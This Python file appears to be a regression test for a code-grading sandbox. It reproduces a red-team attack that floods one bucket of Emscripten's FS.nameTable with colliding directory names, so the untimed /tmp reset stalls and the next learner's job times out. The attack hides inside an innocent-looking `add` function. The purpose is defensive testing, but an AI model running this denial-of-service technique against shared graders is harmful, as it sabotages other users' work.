# The in-place reset empties /tmp through Emscripten's path API: every entry is found again by
# path, each path component through FS.nameTable, a hash table of 4096 chains whose bucket is
# (parent inode + a Java-style string hash) % 4096. Names of "Aa"/"BB" blocks share one hash, and
# a directory's inode is its st_ino, so learner code can put a nested chain of directories and
# thousands of entries in ONE bucket: the reset then walks that whole chain for every component
# of every path it removes (~d^2 * n steps), several times what the submission spent making them.
# The reset runs after job-done, outside any time limit, while the next learner's job already
# waits in the worker's port with its total time running: that job was stopped at its total limit,
# every test `timeout`, an innocent learner scored 0 (red team "redapi2", session 8).
# expect-status: pass
import itertools
import os
import time

def _hash(name):
    value = 0
    for c in name:
        value = (value * 31 + ord(c)) & 0xffffffff
    return value

def _build():
    colliders = [''.join(p) for p in itertools.product(('Aa', 'BB'), repeat=13)]
    bucket = (os.stat('/tmp').st_ino + _hash(colliders[0])) % 4096
    by_residue = {}
    for p in itertools.product('abcdefghijklmnopqrstuvwxyz0123456789', repeat=3):
        by_residue.setdefault(_hash(''.join(p)) % 4096, ''.join(p))
    yield
    path = '/tmp'
    for _ in range(400):  # a nested chain of directories, every one in the bucket
        path += '/' + by_residue[(bucket - os.stat(path).st_ino) % 4096]
        os.mkdir(path)
        yield
    for name in colliders:  # then entries of /tmp in the same bucket, in front of them
        os.mkdir('/tmp/' + name)
        yield

_steps = _build()

def add(a, b):
    stop = time.monotonic() + 0.6  # stays well within each test's time limit
    for _ in _steps:
        if time.monotonic() > stop:
            break
    return a + b
